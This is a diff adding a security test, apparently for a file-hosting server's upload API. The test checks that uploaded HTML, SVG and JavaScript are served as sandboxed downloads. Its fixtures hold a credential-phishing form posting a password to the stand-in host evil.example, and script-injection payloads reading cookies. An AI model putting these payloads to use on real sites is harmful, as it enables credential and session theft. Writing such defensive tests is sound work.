@@ -94,3 +94,31 @@ describe('private things stay private', () => {
     }
   });
 });
+
+describe('uploads cannot act from this origin', () => {
+  async function uploadAs(name: string, type: string, text: string) {
+    const form = new FormData();
+    form.append('i', user.token);
+    form.append('file', new Blob([text], { type }), name);
+    const res = await fetch(`${t.inst.url}/api/drive/files/create`, { method: 'POST', body: form });
+    const file = (await res.json()) as { url: string; type: string };
+    return fetch(file.url);
+  }
+
+  test.each([
+    [
+      'page.html',
+      'text/html',
+      '<form action="https://evil.example/steal" method="post"><input name="password"></form>',
+    ],
+    ['pic.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
+    ['run.js', 'text/javascript', 'alert(document.cookie)'],
+  ])('%s is sent as a download, in a sandbox', async (name, type, text) => {
+    const res = await uploadAs(name, type, text);
+    expect(res.headers.get('content-type')).toBe('application/octet-stream');
+    expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
+    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
+    expect(res.headers.get('content-security-policy')).toMatch(/sandbox/);
+    expect(res.headers.get('content-security-policy')).toMatch(/form-action 'none'/);
+  });
+});
